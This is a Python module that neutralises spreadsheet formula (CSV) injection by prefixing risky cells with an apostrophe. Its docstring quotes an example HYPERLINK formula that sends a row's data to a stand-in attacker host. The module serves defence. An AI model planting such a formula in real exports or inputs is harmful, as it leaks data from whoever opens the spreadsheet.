"""CSV that is safe to open in a spreadsheet. Every CSV the app writes goes through here.

A cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula to
Excel, LibreOffice and Google Sheets (``=HYPERLINK("https://evil.example/?x="&A2,"go")`` in a
visitor's user agent would send the row's data away when clicked). Such cells get a leading
``'``, as OWASP's "CSV Injection" guidance says: the spreadsheet shows the text as text, and a
reader of the raw file sees the prefix. Other cells are written as they are (None as an empty cell).

Usage::

    from tagmanager.spreadsheet import csv_line

    yield csv_line(["consent_id", "user_agent"])
    yield csv_line([record.consent_id, record.user_agent])
"""

import csv

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value):
    """``value`` as a spreadsheet will not run it: a value whose text begins with a formula
    character (a negative number too) gets a leading ``'``; anything else is unchanged."""
    if value is not None and str(value).startswith(FORMULA_STARTS):
        return "'" + str(value)
    return value


class _Line:
    def write(self, value):
        return value


_writer = csv.writer(_Line())


def csv_line(values) -> str:
    """One CSV record (RFC 4180 quoting, ``\\r\\n`` ending) of neutralised cells."""
    return _writer.writerow([csv_cell(value) for value in values])
